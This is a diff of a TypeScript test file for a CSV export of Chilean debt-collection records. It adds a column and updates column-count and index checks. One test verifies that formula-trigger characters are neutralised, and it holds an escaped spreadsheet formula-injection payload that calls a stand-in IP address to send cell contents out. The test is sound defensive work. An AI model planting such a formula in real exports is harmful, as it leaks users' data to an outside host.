@@ -53,9 +53,12 @@ async function exported(
   user: UserId,
   more: Partial<GestionesExport> & { mandate?: Mandate } = {},
 ): Promise<{ text: string; rows: string[][] }> {
-  const wanted: GestionesExport = { period: day, portfolio: null, profile: "excel", country: "CL", ...more };
+  const wanted: GestionesExport = {
+    ...{ period: day, portfolio: null, profile: "excel", country: "CL", mark: "Exportación N.º 1", ...more },
+  };
   let text = "";
-  for await (const piece of gestionesCsv(city.db, { tenant: mandate.tenant, user }, wanted)) text += piece;
+  for await (const piece of gestionesCsv(city.db, { tenant: mandate.tenant, user }, wanted))
+    text += piece.text;
   const reader = createCsvReader(wanted.profile === "excel" && wanted.country === "CL" ? ";" : ",");
   const records = [reader.push(text.replace("\ufeff", "")), reader.end()].flatMap((part) => part.records);
   return { text, rows: records.map((record) => ("cells" in record ? [...record.cells] : [])) };
@@ -74,7 +77,7 @@ test("no cell of the export runs as a formula, whatever people are called and wh
   for (const profile of ["excel", "machine"] as const) {
     const { rows } = await exported(own.admin, { profile, portfolio: own.portfolio });
     expect(rows).toHaveLength(storable.length + 1);
-    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([21]));
+    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([22]));
     const cells = rows.slice(1).flat();
     expect(cells.filter((cell) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([]);
     expect(cells).toContain('\'=HYPERLINK("http://203.0.113.9/?d="&A1,"ver")');
@@ -137,7 +140,7 @@ test("an annulled gestión stays in the export, marked", async () => {
   const annulment = { id: newId<GestionId>(), gestion: input.id, reason: "error de dedo" };
   await inside((tx) => gestiones.annul(tx, actor(own.admin, nine + 1), annulment));
   const { rows } = await exported(own.admin, { portfolio: own.portfolio });
-  expect(rows.slice(1).map((row) => row.at(-2))).toEqual(["SI"]);
+  expect(rows.slice(1).map((row) => row.at(-3))).toEqual(["SI"]);
 });
 
 test("an agent's day counts talks, gestiones, promises and the time in each state, the current one up to now", async () => {
